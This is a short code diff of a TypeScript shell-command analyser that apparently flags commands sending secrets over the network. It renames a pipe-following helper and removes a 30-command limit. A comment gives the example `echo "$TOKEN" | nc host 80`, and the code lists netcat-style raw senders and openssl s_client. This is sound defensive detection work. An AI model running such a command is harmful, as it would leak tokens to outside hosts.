@@ -5,7 +5,7 @@ import {
   type CommandWord,
   opensSocket,
   type Program,
-  pipeFrom,
+  pipedFrom,
   programOf,
   type SimpleCommand,
 } from '../../shell/commands.ts';
@@ -42,16 +42,13 @@ export function* sendingsOf(
   else if (isRawSender(program)) yield byRawSender(at, program, secret);
   if (!printers.has(program.name)) return;
   // `echo "$TOKEN" | nc host 80`
-  for (const next of pipeFrom(list.slice(index, index + maxPipeLength), 0).slice(1)) {
+  for (const next of pipedFrom(list, index)) {
     const receiver = programOf(next);
     const target = receiver && httpClients.has(receiver.name) ? targetOf(receiver, step) : undefined;
     if (target) yield { at: next.at, secret, by: 'body', ...target };
     else if (receiver && isRawSender(receiver)) yield byRawSender(next.at, receiver, secret);
   }
 }
-
-/** How many commands of one pipe are followed. */
-const maxPipeLength = 30;
 
 function isRawSender({ name, arguments: words }: Program): boolean {
   return rawSenders.has(name) || (name === 'openssl' && words[0]?.text === 's_client');
